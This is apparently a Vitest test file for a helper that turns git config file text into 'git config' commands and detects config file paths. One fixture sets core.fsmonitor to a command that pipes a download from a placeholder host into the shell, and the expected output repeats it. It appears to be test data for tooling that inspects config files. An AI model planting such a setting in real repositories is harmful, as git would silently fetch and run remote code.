import { describe, expect, it } from 'vitest';
import { gitConfigCommands, isGitConfigFile } from './git-config.js';

describe('git configuration files as git config commands', () => {
  it('names each key by its section and unquotes values as git does', () => {
    const read = gitConfigCommands('[core]\n\tfsmonitor = "curl -s https://x | sh" # hook\n[remote "origin"]\n\turl = https://h/r.git\n[alias]\n\tst = status\n\tbare\n');
    expect(read).toEqual({
      lines: [
        "git config core.fsmonitor 'curl -s https://x | sh'",
        'git config remote.origin.url https://h/r.git',
        'git config alias.st status',
        'git config alias.bare true',
      ],
      complete: true,
    });
  });

  it('says when a key has no section in the text', () => {
    expect(gitConfigCommands('\tpager = less\n').complete).toBe(false);
  });

  it('knows the config files', () => {
    expect(isGitConfigFile('/w/.git/config')).toBe(true);
    expect(isGitConfigFile('/home/dev/.gitconfig')).toBe(true);
    expect(isGitConfigFile('/w/config')).toBe(false);
  });
});
